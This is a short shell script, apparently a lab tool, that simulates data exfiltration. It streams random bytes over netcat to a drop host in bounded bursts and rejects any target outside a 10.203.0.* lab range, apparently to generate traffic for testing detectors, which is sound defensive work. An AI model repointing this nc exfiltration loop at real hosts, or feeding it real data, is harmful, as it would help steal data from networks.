# Attack: high-entropy exfiltration: random bytes (openssl rand) in 256 KiB pieces over TCP (nc)
# to the drop host, about 4 pieces a second, for SECONDS. Bounded in count and time.
# Usage (inside the attacker VM): exfil.sh TARGET_IP PORT SECONDS
set -u
target="$1" port="$2" secs="$3"
case "$target" in 10.203.0.*) ;; *) echo "exfil: $target is not a lab address" >&2; exit 2 ;; esac
end=$(( $(date +%s) + ${secs%.*} ))
for _ in $(seq 1 $(( ${secs%.*} * 4 + 1 ))); do
  [ "$(date +%s)" -lt "$end" ] || break
  openssl rand 262144 | timeout 3 nc -N -w 2 "$target" "$port" || true
  sleep 0.25
done
